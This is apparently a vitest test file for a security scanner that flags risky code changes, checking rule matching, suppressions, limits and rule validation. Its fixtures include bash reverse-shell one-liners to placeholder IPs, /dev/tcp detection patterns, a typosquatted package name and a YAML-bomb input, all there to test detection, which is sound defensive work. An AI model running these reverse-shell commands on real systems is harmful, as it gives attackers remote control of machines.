import { describe, expect, it } from 'vitest';
import { ANALYZERS } from '../../../src/core/analyzers/index.js';
import { buildCatalog, configureCatalog } from '../../../src/core/rules/catalog.js';
import { RuleFileError } from '../../../src/core/rules/schema.js';
import type { ScanData } from '../../../src/core/rules/types.js';
import { scanChangeSet } from '../../../src/core/scan/engine.js';
import { changeSetOf } from '../../helpers/changeset.js';
import { billionLaughs } from '../../helpers/yaml-bomb.js';

const data: ScanData = { popularNpm: new Map(), popularPypi: new Map() };

const RULES = `
rules:
  - id: js.test.eval
    title: eval call
    severity: high
    category: injection
    cwe: [CWE-95]
    languages: [javascript, typescript]
    message: eval runs arbitrary code.
    fix: Do not use eval.
    match:
      ast:
        rule: { pattern: "eval($X)" }
    tests:
      valid: [{ code: "evaluate(x)" }]
      invalid: [{ code: "eval(x)" }]
  - id: generic.test.dev-tcp
    title: reverse shell
    severity: critical
    category: backdoor
    cwe: [CWE-506]
    message: Opens a reverse shell.
    match:
      regex: '/dev/tcp/'
      regex-not: 'airlock-example'
    tests:
      valid: [{ code: "echo hi" }]
      invalid: [{ code: "bash -i >& /dev/tcp/1.2.3.4/80 0>&1" }]
  - id: py.test.os-system
    title: os.system
    severity: high
    category: injection
    cwe: [CWE-78]
    languages: [python]
    message: Runs a shell command.
    match:
      ast:
        rule: { pattern: "os.system($X)" }
    tests:
      valid: [{ code: "os.path(x)" }]
      invalid: [{ code: "os.system(x)" }]
  - id: generic.test.line-end
    title: line ending in a marker
    severity: low
    category: test
    cwe: [CWE-20]
    message: A line ends with the marker.
    match:
      regex: 'MARKER$'
    tests:
      valid: [{ code: "MARKER x" }]
      invalid: [{ code: "x MARKER" }]
  - id: generic.test.tests-deleted
    title: test deleted
    severity: medium
    category: safety-net
    cwe: [CWE-693]
    paths: { include: ["**/*.test.js"] }
    message: A test file was deleted.
    match:
      path: { status: [deleted] }
    tests:
      valid: [{ path: a.test.js, code: "x" }]
      invalid: [{ path: a.test.js, code: "x", status: deleted }]
`;

const catalog = buildCatalog([{ name: 'rules/test.yml', text: RULES }], [...ANALYZERS]);

describe('scan engine', () => {
  it('anchors regex rules at line ends in new files with LF, CRLF and no final newline alike', async () => {
    const result = await scanChangeSet(
      changeSetOf([
        { path: 'lf.txt', code: 'a MARKER\nb\nc MARKER\n' },
        { path: 'crlf.txt', code: 'a MARKER\r\nb\r\nc MARKER\r\n' },
        { path: 'bare.txt', code: 'a MARKER\nb\nc MARKER' },
        { path: 'part.txt', code: 'a MARKER\r\nb\r\nc MARKER\r\n', added: [3] },
      ]),
      { catalog, data },
    );
    const hits = result.findings.filter((f) => f.ruleId === 'generic.test.line-end').map((f) => `${f.path}:${f.line}`);
    expect(hits.sort()).toEqual(['bare.txt:1', 'bare.txt:3', 'crlf.txt:1', 'crlf.txt:3', 'lf.txt:1', 'lf.txt:3', 'part.txt:3']);
  });

  it('reports AST and regex matches only on added lines', async () => {
    const result = await scanChangeSet(
      changeSetOf([
        { path: 'src/a.js', code: 'eval(old);\nconst x = 1;\neval(input);\n', added: [2, 3] },
        { path: 'run.sh', code: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\necho /dev/tcp/ airlock-example\n' },
        { path: 'app.py', code: 'import os\nos.system(cmd)\n', added: [2] },
      ]),
      { catalog, data },
    );
    expect(result.findings.map((f) => [f.ruleId, f.path, f.line])).toEqual([
      ['py.test.os-system', 'app.py', 2],
      ['generic.test.dev-tcp', 'run.sh', 1],
      ['js.test.eval', 'src/a.js', 3],
    ]);
    const evalFinding = result.findings.find((f) => f.ruleId === 'js.test.eval')!;
    expect(evalFinding).toMatchObject({ severity: 'high', cwe: ['CWE-95'], column: 1, snippet: 'eval(input);', fix: { description: 'Do not use eval.' } });
    // The end column is just past the match: `eval(input)` for the AST rule, `/dev/tcp/` for the regex one.
    expect(evalFinding.endColumn).toBe(12);
    expect(result.findings.find((f) => f.ruleId === 'generic.test.dev-tcp')).toMatchObject({ column: 12, endColumn: 21 });
    expect(result.findings.find((f) => f.ruleId === 'py.test.os-system')).toMatchObject({ column: 1, endColumn: 15 });
    expect(result.stats).toMatchObject({ filesScanned: 3, addedLines: 5 });
  });

  it('anchors regex rules to each added line', async () => {
    const anchored = buildCatalog(
      [{ name: 'rules/a.yml', text: RULES.replace("regex: '/dev/tcp/'", () => "regex: '^exec /dev/tcp/.*$'") }],
      [],
    );
    const result = await scanChangeSet(changeSetOf([{ path: 'r.sh', code: 'exec /dev/tcp/h/1\necho ok\nexec /dev/tcp/h/2\n' }]), {
      catalog: anchored,
      data,
    });
    expect(result.findings.filter((f) => f.ruleId === 'generic.test.dev-tcp').map((f) => f.line)).toEqual([1, 3]);
  });

  it('keeps fingerprints stable when code moves and distinguishes repeated matches', async () => {
    const before = await scanChangeSet(changeSetOf([{ path: 'a.js', code: 'eval(x);\neval(x);\n' }]), { catalog, data });
    const after = await scanChangeSet(changeSetOf([{ path: 'a.js', code: '\n\n// moved\n  eval( x );\neval(x);\n' }]), { catalog, data });
    const fp = (r: typeof before) => r.findings.map((f) => f.fingerprint);
    expect(new Set(fp(before)).size).toBe(2);
    expect(fp(after)).toEqual(fp(before));
  });

  it('honours suppressions from the base version only, on base lines only, and reports added ones', async () => {
    const code = [
      '// airlock-ignore js.test.eval -- vetted in 2024',
      'eval(a +', // unchanged: the change edits the call's second line
      '  b);',
      'eval(c); // airlock-ignore js.test.eval -- trust me',
      '// airlock-ignore js.test.eval -- covers the line below in the base',
      'eval(d);', // added under an old comment
      '',
    ].join('\n');
    const result = await scanChangeSet(changeSetOf([{ path: 'a.js', code, added: [3, 4, 6] }]), { catalog, data });
    expect(result.suppressed.map((s) => [s.finding.line, s.reason])).toEqual([[2, 'vetted in 2024']]);
    expect(result.findings.map((f) => [f.ruleId, f.line])).toEqual([
      ['airlock.suppression-added', 4],
      ['js.test.eval', 4],
      ['js.test.eval', 6],
    ]);
  });

  it('reports an analyzer that fails (here on broken package data) as a file not fully reviewed', async () => {
    const broken: ScanData = {
      get popularNpm(): ReadonlyMap<string, number> {
        throw new Error('data/popular-npm.tsv: line 3: expected "name<TAB>number"');
      },
      popularPypi: new Map(),
    };
    const result = await scanChangeSet(
      changeSetOf([{ path: 'package.json', code: '{\n  "dependencies": {\n    "lodahs": "^4.17.21"\n  }\n}\n' }]),
      { catalog, data: broken },
    );
    expect(result.notReviewed).toEqual([
      { path: 'package.json', reason: 'analyzer dependencies failed: data/popular-npm.tsv: line 3: expected "name<TAB>number"' },
    ]);
  });

  it('lists binary, oversized, unavailable and unreadable files as not reviewed', async () => {
    const cs = changeSetOf([
      { path: 'img.png', code: new Uint8Array([0x89, 0x50, 0, 0, 1]) },
      { path: 'big.js', code: `${'x'.repeat(2000)}\n` },
      { path: 'huge.js', code: 'eval(x)', unavailable: 'GitHub sent no patch (diff too large)' },
    ]);
    cs.files.push({ ...cs.files[1]!, path: 'gone.js', size: null });
    const result = await scanChangeSet(cs, { catalog, data, limits: { maxFileBytes: 1500 } });
    expect(result.notReviewed).toEqual([
      { path: 'img.png', reason: 'binary file' },
      { path: 'big.js', reason: 'file is 2001 bytes, over the 1500-byte limit' },
      { path: 'huge.js', reason: 'GitHub sent no patch (diff too large)' },
      { path: 'gone.js', reason: 'head version could not be read: file missing at head' },
    ]);
  });

  it('stops at the time budget and lists every file it did not reach', async () => {
    let t = 0;
    const cs = changeSetOf([1, 2, 3].map((i) => ({ path: `f${i}.js`, code: 'eval(x)\n' })));
    const result = await scanChangeSet(cs, { catalog, data, limits: { timeBudgetMs: 10 }, now: () => (t += 6) });
    expect(result.notReviewed.map((n) => n.path)).toEqual(['f2.js', 'f3.js']);
    expect(result.notReviewed[0]!.reason).toMatch(/time budget/);
  });

  it('reviews renamed files in full: a rename gives a file a new role', async () => {
    const cs = changeSetOf([
      { path: 'scripts/ci/run.sh', code: 'cat </dev/tcp/h/1\n', added: [] },
      { path: 'run2.sh', code: 'cat </dev/tcp/h/1\n', added: [] },
    ]);
    cs.files[0] = { ...cs.files[0]!, status: 'renamed', oldPath: 'docs/run.sh' };
    cs.files[1] = { ...cs.files[1]!, status: 'renamed', oldPath: 'run.sh' };
    const result = await scanChangeSet(cs, { catalog, data });
    expect(result.findings.map((f) => [f.path, f.line])).toEqual([
      ['run2.sh', 1],
      ['scripts/ci/run.sh', 1],
    ]);
  });

  it('fires path rules on deleted files', async () => {
    const result = await scanChangeSet(changeSetOf([{ path: 'src/a.test.js', code: 'it()', status: 'deleted' }]), { catalog, data });
    expect(result.findings.map((f) => f.ruleId)).toEqual(['generic.test.tests-deleted']);
  });

  it('survives hostile input: invalid UTF-8, a 600 KB line, deep nesting', async () => {
    const deep = `x = ${'['.repeat(50_000)}${']'.repeat(50_000)};\neval(y);\n`;
    const result = await scanChangeSet(
      changeSetOf([
        { path: 'bad.js', code: new Uint8Array([0x65, 0x76, 0x61, 0x6c, 0x28, 0xff, 0xfe, 0x29, 0x0a]), added: [1] },
        { path: 'long.js', code: `${'a+'.repeat(300_000)}a;\neval(z)\n` },
        { path: 'deep.js', code: deep },
      ]),
      { catalog, data },
    );
    expect(result.notReviewed).toEqual([]);
    expect(result.findings.filter((f) => f.ruleId === 'js.test.eval').map((f) => f.path)).toEqual(['bad.js', 'deep.js', 'long.js']);
  });

  it('turns rules off and overrides severity from configuration', async () => {
    const configured = configureCatalog(catalog, { 'js.test.eval': { severity: 'low' }, 'generic.*': 'off' });
    const result = await scanChangeSet(
      changeSetOf([{ path: 'a.js', code: 'eval(x)\n' }, { path: 'r.sh', code: 'cat </dev/tcp/h/1\n' }]),
      { catalog: configured, data },
    );
    expect(result.findings.map((f) => [f.ruleId, f.severity])).toEqual([['js.test.eval', 'low']]);
    expect(() => configureCatalog(catalog, { 'js.test.evl': 'off' })).toThrow(/rules\.js\.test\.evl: no rule has this id/);
  });

  it('lets the shell free syntax trees after each file the semantic layer parsed, and only then', async () => {
    const semantic = buildCatalog(
      [
        {
          name: 'rules/semantic.yml',
          text: `rules:
  - id: js.test.hidden-eval
    title: eval through an alias
    severity: high
    category: obfuscation
    cwe: [CWE-95]
    languages: [javascript]
    message: Runs code through an alias.
    match:
      call:
        name: [eval]
        hidden-callee: true
    tests:
      valid: [{ code: "eval(x)" }]
      invalid: [{ code: "const run = eval; run(x);" }]
`,
        },
      ],
      [],
    );
    const reclaimed: number[] = [];
    const files = [
      { path: 'a.js', code: 'const run = eval;\nrun(x);\n' },
      { path: 'b.md', code: '# notes\n' },
      { path: 'c.js', code: 'const n = 1;\n' },
      { path: 'd.js', code: 'const e = eval;\ne(y);\n' },
    ];
    const result = await scanChangeSet(changeSetOf(files), { catalog: semantic, data, reclaim: async (parsedChars) => void reclaimed.push(parsedChars) });
    expect(result.findings.map((f) => [f.ruleId, f.path, f.line])).toEqual([
      ['js.test.hidden-eval', 'a.js', 2],
      ['js.test.hidden-eval', 'd.js', 2],
    ]);
    // Once after a.js and once after d.js, with the text each parsed: c.js names no eval, so the
    // pre-filter keeps it from being parsed, and b.md has no semantic rules.
    expect(reclaimed).toEqual([files[0]!.code.length, files[3]!.code.length]);
  });

  it('rejects broken rules with a one-line error naming file, rule and field', () => {
    const broken = RULES.replace("regex: '/dev/tcp/'", "regex: '(?<=x)tcp'");
    expect(() => buildCatalog([{ name: 'rules/bad.yml', text: broken }], [])).toThrow(RuleFileError);
    expect(() => buildCatalog([{ name: 'rules/bad.yml', text: broken }], [])).toThrow(/^rules\/bad\.yml: rule generic\.test\.dev-tcp: match\.regex: not a valid RE2 pattern/);
    expect(() => buildCatalog([{ name: 'rules/bad.yml', text: RULES.replace('severity: critical', 'severity: urgent') }], [])).toThrow(
      /rules\/bad\.yml: rule generic\.test\.dev-tcp: severity: /,
    );
    expect(() => buildCatalog([{ name: 'rules/bad.yml', text: RULES.replace('pattern: "eval($X)"', 'patern: "eval($X)"') }], [])).toThrow(
      /rule js\.test\.eval: match\.ast \(javascript\)/,
    );
    expect(() => buildCatalog([{ name: 'rules/bad.yml', text: 'rules:\n  - id: [unclosed\n' }], [])).toThrow(/rules\/bad\.yml: line \d+: invalid YAML/);
    expect(() => buildCatalog([{ name: 'rules/bad.yml', text: billionLaughs() }], [])).toThrow(/^rules\/bad\.yml: invalid YAML: its aliases expand too far/);
    expect(() => buildCatalog([{ name: 'a.yml', text: RULES }, { name: 'b.yml', text: RULES }], [])).toThrow(/b\.yml: rule js\.test\.eval: id already defined in a\.yml/);
  });
});
